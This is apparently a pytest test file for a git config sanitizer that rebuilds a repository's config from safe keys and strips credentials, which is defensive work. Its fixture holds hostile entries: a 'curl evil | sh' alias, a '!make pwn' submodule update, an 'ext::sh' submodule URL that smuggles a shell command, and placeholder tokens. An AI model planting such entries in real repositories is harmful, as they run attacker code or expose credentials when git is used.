"""A git config rebuilt from its safe keys: what a copy of a repository needs for git to read
it, never a credential or a command, read as git itself reads the file."""

from __future__ import annotations

import pytest

from sandbox_runner.git_config import ConfigEntry, parse_git_config, safe_git_config

ACTIONS_CHECKOUT = """[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
\tlogallrefupdates = true
\tfsmonitor = .git/fsmonitor.sh
\thooksPath = tools/hooks
\tsshCommand = ssh -i ~/.ssh/deploy
\tworktree = ../elsewhere
[remote "origin"]
\turl = https://x-access-token:ghs_0123456789abcdefghijABCDEFGHIJ0123@github.com/org/proj.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
[gitlab]
\turl = https://gitlab.example.com/g/p.git?private_token=glpat-0123456789abcdefghij#top
[http "https://github.com/"]
\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA==
[github]
\ttoken = ghp_0123456789abcdefghijABCDEFGHIJ012345
[credential]
\thelper = store
[alias]
\tst = !sh -c 'curl evil | sh'
[filter "lfs"]
\tclean = git-lfs clean -- %f
[include]
\tpath = ~/.gitconfig-secrets
[includeIf "gitdir:~/work/"]
\tpath = ~/.gitconfig-work
[url "https://oauth2:glpat-0123456789abcdefghij@gitlab.com/"]
\tinsteadOf = https://gitlab.com/
[branch "main"]
\tremote = origin
\tmerge = refs/heads/main
[submodule "lib"]
\turl = https://user:hunter2@example.com/lib.git?access_token=abc
\tactive = true
\tupdate = !make pwn
[submodule "tool"]
\turl = ext::sh -c touch% /tmp/pwned
[extensions]
\tobjectFormat = sha256
\tworktreeConfig = true
"""


def test_only_keys_that_say_how_to_read_the_repository_are_kept() -> None:
    assert safe_git_config(ACTIONS_CHECKOUT) == (
        "[core]\n"
        "\trepositoryformatversion = 0\n"
        "\tfilemode = true\n"
        "\tbare = false\n"
        "\tlogallrefupdates = true\n"
        '[remote "origin"]\n'
        "\turl = https://github.com/org/proj.git\n"
        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        '[branch "main"]\n'
        "\tremote = origin\n"
        "\tmerge = refs/heads/main\n"
        '[submodule "lib"]\n'
        "\turl = https://example.com/lib.git\n"
        "\tactive = true\n"
        "[extensions]\n"
        "\tobjectformat = sha256\n"
        "\tworktreeconfig = true\n"
    )


@pytest.mark.parametrize(
    "written",
    [
        '[remote "up"] url = https://user:SECRET@host/r.git\n',
        '[http "https://github.com/"] extraheader = AUTHORIZATION: basic SECRET\n',
        "[http]\n\textraHeader = AUTHORIZATION: basic \\\n SECRET\n",
        '[credential "https://x]y"] helper = store --file SECRET\n',
        '[remote "origin"]\n\turl = "https://host/r.git\n\tpushurl = SECRET\n',
        "[core]\n\tfsmonitor = SECRET\\q\n\tpager = SECRET\n",
        "[Core.SubSection]\n\tbare = SECRET\n",
        '[remote "o"] url = https://h/?token=SECRET#x\n',
    ],
    ids=[
        "a key on its section's line",
        "a header key on its section's line",
        "a value over two lines",
        "a bracket in a quoted name",
        "an unclosed quote",
        "an escape git refuses",
        "a core key in a subsection",
        "a query token",
    ],
)
def test_credentials_written_as_git_also_reads_them_never_survive(written: str) -> None:
    # git reads a key on its section's line, a continued value and the quoted name as such,
    # and refuses the whole file with the unclosed quote or the escape (git 2.39).
    config = safe_git_config(written + '[remote "origin"] url = https://host/r.git\n')
    assert "SECRET" not in config
    assert config.endswith('[remote "origin"]\n\turl = https://host/r.git\n')


def test_the_rebuilt_file_reads_back_as_the_values_kept() -> None:
    text = (
        '[remote "we\\"ird"]\n'
        '\turl = "/srv/repo # not a comment" ; a comment\n'
        "\tfetch = +refs/heads/*:refs/remotes/x/*  \n"
        "[core]\n"
        '\tautocrlf = "  input\\tx"\n'
        "\tsymlinks\n"
    )
    kept = parse_git_config(safe_git_config(text))
    assert kept == [
        ConfigEntry("remote", 'we"ird', "url", "/srv/repo # not a comment"),
        ConfigEntry("remote", 'we"ird', "fetch", "+refs/heads/*:refs/remotes/x/*"),
        ConfigEntry("core", None, "autocrlf", "  input\tx"),
        ConfigEntry("core", None, "symlinks", None),
    ]
    assert parse_git_config(text) == kept


def test_a_url_in_any_kept_key_loses_its_credentials() -> None:
    token = "0123456789abcdef0123456789abcdef"
    clean = safe_git_config(f'[branch "main"]\n\tremote = https://{token}@example.com/x.git\n')
    assert token not in clean and "example.com/x.git" in clean
